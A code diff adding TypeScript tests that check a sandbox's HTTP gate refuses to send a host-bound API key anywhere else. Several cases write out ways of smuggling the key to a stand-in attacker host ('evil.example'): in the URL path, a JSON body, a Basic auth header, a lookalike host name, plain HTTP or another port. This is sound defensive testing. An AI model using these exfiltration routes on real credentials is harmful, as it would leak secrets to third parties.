@@ -120,6 +120,52 @@ describe('a world with a profile', () => {
   });
 });
 
+describe('a profile that binds a secret to hosts', () => {
+  const hosts = { API_KEY: ['https://api.example'] };
+  const secrets = { API_KEY: 'key-for-the-api', OTHER: 'free-to-roam' };
+
+  async function send(url: string, headers: Record<string, string>, body?: string) {
+    const rewrite = [
+      { match: 'https://*.example', to: service.url },
+      { match: 'http://*', to: service.url },
+    ];
+    const world = await open({ profile: { http: { rewrite }, secrets: { hosts } }, secrets });
+    const request = { method: 'POST', url, headers, followRedirects: false, maxResponseBytes: 1000 };
+    return world.gate.http(body === undefined ? request : { ...request, body }, CONTEXT);
+  }
+
+  it('lets it go there', async () => {
+    expect(await send('https://api.example/x', { 'X-Key': secrets.API_KEY })).toMatchObject({ status: 200 });
+  });
+
+  it('lets other secrets go anywhere', async () => {
+    expect(await send('https://evil.example/x', { 'X-Key': secrets.OTHER })).toMatchObject({ status: 200 });
+  });
+
+  it.each([
+    ['another host', 'https://evil.example/x', { 'X-Key': secrets.API_KEY }, undefined],
+    ['the host without TLS', 'http://api.example/x', { 'X-Key': secrets.API_KEY }, undefined],
+    ['another port', 'https://api.example:444/x', { 'X-Key': secrets.API_KEY }, undefined],
+    ['a host that only begins alike', 'https://api.example.evil.example/x', { 'X-Key': secrets.API_KEY }, undefined],
+    ['another host, in the address', `https://evil.example/${secrets.API_KEY}`, {}, undefined],
+    ['another host, in the body', 'https://evil.example/x', {}, JSON.stringify({ deep: secrets.API_KEY })],
+    [
+      'another host, as Basic authorization',
+      'https://evil.example/x',
+      { Authorization: `Basic ${Buffer.from(`me:${secrets.API_KEY}`).toString('base64')}` },
+      undefined,
+    ],
+  ])('does not let it go to %s', async (_, url, headers, body) => {
+    const before = service.received.length;
+    await expect(send(url, headers, body)).rejects.toMatchObject({
+      type: 'SECURITY',
+      wasSent: false,
+      message: expect.stringContaining('does not let the secret API_KEY go to'),
+    });
+    expect(service.received).toHaveLength(before);
+  });
+});
+
 describe('a world without a profile', () => {
   it('asks the model that the environment names, and masks its key', async () => {
     const world = await open({}, { OPENAI_BASE_URL: `${service.url}/v1`, OPENAI_API_KEY: 'the-real-openai-key' });
